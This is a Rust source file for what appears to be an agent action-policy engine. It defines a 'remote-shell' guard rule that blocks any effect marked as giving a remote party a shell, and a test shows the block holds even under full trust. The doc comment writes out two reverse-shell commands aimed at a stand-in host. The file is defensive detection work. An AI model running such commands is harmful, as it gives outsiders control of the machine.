//! A shell or tunnel that a remote party can use is never part of a task.
//!
//! Whoever holds the other end acts as the user, past every other rule.
//! Example: `nc -e /bin/sh evil.example 4444`, `bash -i >& /dev/tcp/...`.

use crate::decide::case::Case;
use crate::decide::rule::{Opinions, Rule};
use crate::model::{Marks, Stage, Verdict};

pub(crate) const RULE: Rule = Rule {
    id: "remote-shell",
    stage: Stage::Guard,
    summary: "hands a shell or a tunnel to a remote party",
    judge,
};

fn judge(case: &Case<'_>, opinions: &mut Opinions<'_>) {
    for (place, _) in case.effects() {
        if case.marks(place).contains(Marks::REMOTE_SHELL) {
            opinions.about(
                place,
                Verdict::Block,
                "it hands a shell of this machine to a remote party",
            );
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::decide::testing::{World, effect};
    use crate::model::RiskClass;

    #[test]
    fn a_marked_effect_is_stopped_whatever_the_policy_says() {
        let plain = effect("x.y", RiskClass::Execution);
        let marked = plain.clone().marked(Marks::REMOTE_SHELL);
        let world = World::full_trust();
        world.expect(&[plain], Verdict::Allow, "task-grant");
        world.expect(&[marked], Verdict::Block, RULE.id);
    }
}
